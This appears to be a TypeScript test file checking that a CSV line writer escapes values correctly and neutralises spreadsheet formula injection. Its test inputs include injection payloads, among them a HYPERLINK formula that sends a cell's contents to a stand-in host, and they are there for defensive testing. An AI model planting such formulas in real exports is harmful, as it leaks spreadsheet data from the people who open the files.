import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../../infra/local/cli/csv-line.ts';

describe('a line of CSV', () => {
  it('tells null from nothing and from zero', () => {
    expect(csvLine([null, undefined, '', 0, false])).toBe(',,"",0,false\r\n');
  });

  it('keeps numbers numbers, below zero too, and writes times and objects out', () => {
    expect(csvLine([-0.25, new Date('2026-11-22T10:00:00Z'), { a: 1 }])).toBe(
      '-0.25,2026-11-22T10:00:00.000Z,"{""a"":1}"\r\n',
    );
  });

  it.each([
    ['=HYPERLINK("http://x.example/"&A1)', '"\'=HYPERLINK(""http://x.example/""&A1)"'],
    ['@SUM(1+1)*cmd', "'@SUM(1+1)*cmd"],
    ['+1 for this', "'+1 for this"],
    ['-2+3', "'-2+3"],
    [' =1+1', "' =1+1"],
    ['\t=1', '"\'\t=1"'],
    ['＝1+1', "'＝1+1"],
    ['fine;=cmd', '"fine;=cmd"'],
    ['two\nlines, and "quotes"', '"two\nlines, and ""quotes"""'],
  ])('lets %j calculate nothing', (text, expected) => {
    expect(csvLine([text])).toBe(`${expected}\r\n`);
  });

  it('is read back as it was written, but for the apostrophe before a formula', () => {
    const texts = fc.array(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), { minLength: 2, maxLength: 5 });
    fc.assert(
      fc.property(texts, (values) => {
        const [read] = parse(csvLine(values), { relax_column_count: true }) as string[][];
        expect(read).toHaveLength(values.length);
        for (const [i, text] of read!.entries()) expect([values[i], `'${values[i]}`]).toContain(text);
        for (const text of read!) expect(text).not.toMatch(/^\s*[=+\-@]/);
      }),
    );
  });
});
